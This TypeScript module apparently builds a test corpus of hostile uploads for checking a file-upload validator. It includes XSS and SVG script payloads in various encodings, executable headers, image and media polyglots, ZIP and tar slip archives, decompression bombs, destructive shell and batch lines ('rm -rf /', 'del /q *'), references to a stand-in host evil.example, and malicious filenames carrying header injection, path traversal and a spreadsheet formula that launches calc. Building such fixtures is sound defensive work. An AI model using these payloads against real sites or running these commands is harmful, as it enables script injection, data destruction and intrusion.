import { compoundFile } from "./compound-file.ts";
import { avif, bytes, frame, gif, ispe, jpeg, png, u16, u32, webp } from "./image-headers.ts";

/** A malicious file and its declared name and type. */
export interface HostileFile {
  name: string;
  type: string;
  content: Uint8Array;
  /** Whether it must be rejected under any declared type. */
  mustBeRejected?: boolean;
}

const zeros = (count: number): number[] => Array.from({ length: count }, () => 0);
const script = "<script>alert(document.domain)</script>";
const html = `<!DOCTYPE html><html><body>${script}</body></html>`;
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`;
const utf16 = (text: string, order: "le" | "be"): Uint8Array => {
  const content = Buffer.from(`\ufeff${text}`, "utf16le");
  return order === "le" ? content : content.swap16();
};

/** Texts that a browser would execute if their type were declared, or left to be guessed. */
const active: Record<string, Uint8Array> = {
  html: bytes(html),
  "html after blanks": bytes(" \n\t".repeat(300), html),
  "html behind a BOM": Buffer.from(`\ufeff${html}`),
  "html in UTF-16 LE": utf16(html, "le"),
  "html in UTF-16 BE": utf16(html, "be"),
  "html in UTF-7": bytes("+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
  "html in ISO-2022-JP": bytes("\u001b$B", html, "\u001b(B"),
  "html with NUL": bytes("<ht\u0000ml><scr\u0000ipt>alert(1)</script>"),
  "html behind bytes": bytes([255, 254, 0, 0], html),
  "a comment of html": bytes(`<!-- ${"x".repeat(2_000)} -->`, script),
  svg: bytes(svg),
  "svg with a declaration": bytes('<?xml version="1.0" encoding="UTF-8"?>', svg),
  "svg in latin-1": bytes('<?xml version="1.0" encoding="ISO-8859-1"?>', [233], svg),
  "svg in UTF-16": utf16(`<?xml version="1.0" encoding="UTF-16"?>${svg}`, "le"),
  xhtml: bytes('<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">', script, "</html>"),
  xslt: bytes('<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?><x/>'),
  "xml of entities": bytes('<!DOCTYPE a [<!ENTITY b "', "&b;".repeat(50), '">]><a>&b;</a>'),
  javascript: bytes("alert(document.domain)//"),
  "a service worker": bytes("self.addEventListener('fetch',e=>e.respondWith(new Response('x')))"),
  css: bytes("@import url(//evil.example);*{background:url(javascript:alert(1))}"),
  mhtml: bytes("MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\n\r\n", html),
  hta: bytes("<hta:application>", script),
  "a web shortcut": bytes("[InternetShortcut]\r\nURL=file://evil.example/x.exe\r\n"),
  "a shell script": bytes("#!/bin/sh\nrm -rf /\n"),
  "a batch file": bytes("@echo off\r\ndel /q *\r\n"),
  "an event calendar": bytes("BEGIN:VCALENDAR\r\nATTACH:javascript:alert(1)\r\nEND:VCALENDAR"),
  "a template": bytes("{{constructor.constructor('alert(1)')()}}"),
};

const littleEndian = (value: number): number[] => [...u32(value)].reverse();
const programs: Record<string, Uint8Array> = {
  PE: bytes("MZ", [0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 255, 255], zeros(48), "PE\u0000\u0000"),
  ELF: bytes([0x7f], "ELF", [2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0]),
  "Mach-O": bytes([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]),
  "Mach-O of 32 bits": bytes(littleEndian(0xfeedface), [7, 0, 0, 0]),
  "fat Mach-O": bytes([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2]),
  "a Java class": bytes([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 61]),
  WebAssembly: bytes([0], "asm", [1, 0, 0, 0]),
  dex: bytes("dex\n035\u0000"),
  Flash: bytes("CWS", [9, 0, 0, 0]),
  "a Windows shortcut": bytes(
    [0x4c, 0, 0, 0, 1, 0x14, 2, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46],
    zeros(60),
  ),
  deb: bytes("!<arch>\ndebian-binary   1342943816  0     0     100644  4         `\n2.0\n", [0]),
  rpm: bytes([0xed, 0xab, 0xee, 0xdb, 3, 0, 0, 0]),
  msi: compoundFile({ rootClass: "84100c0000000000c000000000000046" }),
  "msi behind other sectors": compoundFile({
    rootClass: "84100c0000000000c000000000000046",
    directoryAt: 700,
  }),
  "msi by its tables": compoundFile({ streams: ["\u4840\u3f3f\u4577"] }),
  xar: bytes("xar!", [0, 0x1c, 0, 1]),
  "a browser extension": bytes("Cr24", [3, 0, 0, 0]),
  bitcode: bytes("BC", [0xc0, 0xde]),
};

const entry = (name: string, content: string, claimedBytes = content.length): number[] => [
  ...bytes(
    "PK\u0003\u0004",
    [20],
    zeros(9),
    u32(0),
    littleEndian(content.length),
    littleEndian(claimedBytes),
  ),
  ...bytes([name.length & 255, name.length >> 8, 0, 0], name, content),
];
const zipOf = (...entries: number[][]): Uint8Array => bytes(...entries, "PK\u0005\u0006", zeros(18));
/** A ZIP of one stored entry. */
const zip = (...of: Parameters<typeof entry>): Uint8Array => zipOf(entry(...of));

/** Entries of an archive are not inspected: the operating system warns whoever unpacks it. */
const packedPrograms: Record<string, Uint8Array> = {
  jar: zip("META-INF/MANIFEST.MF", "x"),
  apk: zipOf(entry("AndroidManifest.xml", "x"), entry("classes.dex", "x")),
  "a word document with macros": zip(
    "[Content_Types].xml",
    'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"',
  ),
};

const polyglots: Record<string, [Uint8Array, string]> = {
  "GIF and script": [bytes("GIF89a=0;/*", [0, 0, 0, 0], "*/;alert(1)"), "image/gif"],
  "GIF and script of text": [bytes("GIF89a/*  */=1;alert(1)"), "image/gif"],
  "GIF and html": [bytes([...gif(1, 1)], html), "image/gif"],
  "PNG and html": [bytes([...png(1, 1)], html), "image/png"],
  "JPEG with html in its comment": [
    jpeg([0xff, 0xfe, ...u16(html.length + 2), ...Buffer.from(html)], frame(1, 1)),
    "image/jpeg",
  ],
  "JPEG and ZIP": [bytes([...jpeg(frame(1, 1))], [...zip("x.html", html)]), "image/jpeg"],
  "JPEG and Java archive": [
    bytes([...jpeg(frame(1, 1))], [...zip("META-INF/MANIFEST.MF", "x")]),
    "image/jpeg",
  ],
  "WebP and script": [bytes([...webp(1, 1)], script), "image/webp"],
  "AVIF and script": [bytes([...avif(ispe(1, 1))], script), "image/avif"],
  "BMP and script": [bytes("BM/*", [0, 0], "*/=1;alert(1)"), "image/bmp"],
  "PDF and script": [
    bytes("%PDF-1.7\n1 0 obj<</S/JavaScript/JS(app.alert(1))>>\n", script),
    "application/pdf",
  ],
  "html and PDF": [bytes(html, "%PDF-1.7"), "application/pdf"],
  "PDF behind bytes": [bytes([0, 1, 2], "%PDF-1.7", script), "application/pdf"],
  "MP3 and html": [bytes("ID3", [3, 0, 0, 0, 0, 0, 0], html), "audio/mpeg"],
  "MP4 and html": [bytes(u32(24), "ftypisom", u32(0), "isommp42", html), "video/mp4"],
  "WAV and html": [bytes("RIFF", [36, 0, 0, 0], "WAVEfmt ", html), "audio/wav"],
  "OGG and html": [bytes("OggS", [0, 2], html), "audio/ogg"],
  "flac and html": [bytes("fLaC", [0, 0, 0, 34], html), "audio/flac"],
  "ZIP slip": [zip("../../../../etc/cron.d/x", "x"), "application/zip"],
  "ZIP slip of Windows": [zip("..\\..\\x.exe", "MZ"), "application/zip"],
  "ZIP bomb": [zip("0", "\u0000".repeat(100), 0x7fffffff), "application/zip"],
  "ZIP that calls itself html": [zip("mimetype", "text/html"), "text/html"],
  "ZIP that calls itself a picture": [zip("mimetype", "image/png"), "image/png"],
  "gzip bomb": [bytes([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 2, 255], zeros(5_000)), "application/gzip"],
  "tar slip": [bytes("../../etc/passwd", "\u0000".repeat(241), "ustar\u000000"), "application/x-tar"],
  "office with macros": [zip("word/vbaProject.bin", "x"), "application/vnd.ms-word.document.macroEnabled.12"],
  "text and MZ": [bytes("MZ is a text"), "application/x-msdownload"],
};

const enormous: Record<string, Uint8Array> = {
  "image/png": png(60_000, 60_000),
  "image/gif": gif(65_535, 65_535),
  "image/jpeg": jpeg(frame(65_500, 65_500)),
  "image/webp": webp(16_000, 16_000),
  "image/avif": avif(ispe(60_000, 60_000)),
  "image/bmp": bytes(
    "BM",
    littleEndian(100),
    u32(0),
    littleEndian(54),
    littleEndian(40),
    littleEndian(60_000),
    littleEndian(60_000),
    zeros(40),
  ),
};

const pictures: Record<string, Uint8Array> = {
  "image/png": png(1, 1),
  "image/gif": gif(1, 1),
  "image/jpeg": jpeg(frame(1, 1)),
  "image/webp": webp(1, 1),
  "image/avif": avif(ispe(1, 1)),
};

const marked = [
  ...Object.keys(pictures),
  "image/tiff",
  "audio/mpeg",
  "audio/ogg",
  "audio/wav",
  "video/mp4",
  "video/webm",
  "font/woff2",
  "application/pdf",
  "application/zip",
];

const names = [
  "a\u202egnp.exe",
  "a\u2066b\u2069.png",
  "a\r\nSet-Cookie: x=1.png",
  'a"; filename="b.html',
  "a'b;c=d,e.html",
  "a\u0000.png",
  "../../../etc/passwd",
  "..\\..\\boot.ini",
  "..",
  "C:\\a.exe",
  "a%00.png%2f..%2f",
  "a\u0007.png",
  "\ufeffa.html",
  "a\u200d\u200b.png",
  "ｈｔｔｐ：／／ｘ",
  "<img src=x onerror=alert(1)>.png",
  "=cmd|' /C calc'!A0.csv",
  "con.png",
  "x".repeat(255),
  "x".repeat(256),
  "🎉".repeat(255),
  "🎉".repeat(256),
  "%0d%0aX: y",
  "a\u2028b",
];

/** Returns over two hundred files, each once. */
export const hostileFiles = (): HostileFile[] => [
  ...Object.entries(active).flatMap(([kind, content]) =>
    [
      ["text/html", "html"],
      ["image/svg+xml", "svg"],
      ["image/png", "png"],
      ["text/plain", "txt"],
    ].map(([type = "", end]) => ({ name: `${kind}.${end}`, type, content })),
  ),
  ...[programs, packedPrograms].flatMap((files) =>
    Object.entries(files).flatMap(([kind, content]) =>
      ["application/octet-stream", "image/png", "text/plain"].map((type) => ({
        name: `${kind}.png`,
        type,
        content,
        mustBeRejected: files === programs,
      })),
    ),
  ),
  ...Object.entries(polyglots).map(([kind, [content, type]]) => ({ name: `${kind}.bin`, type, content })),
  ...Object.entries(enormous).map(([type, content]) => ({
    name: "huge",
    type,
    content,
    mustBeRejected: true,
  })),
  ...Object.entries(pictures).flatMap(([type, content]) => [
    ...[1, 3, 8, 12, 16, 20].map((length) => ({
      name: `cut at ${length}`,
      type,
      content: content.subarray(0, length),
    })),
    { name: "html.html", type: "text/html", content: bytes([...content], html) },
  ]),
  ...marked.map((type) => ({ name: "wrong mark", type, content: bytes([1, 2, 3, 4, 200, 201], html) })),
  ...names.map((name) => ({ name, type: "image/png", content: png(1, 1) })),
];
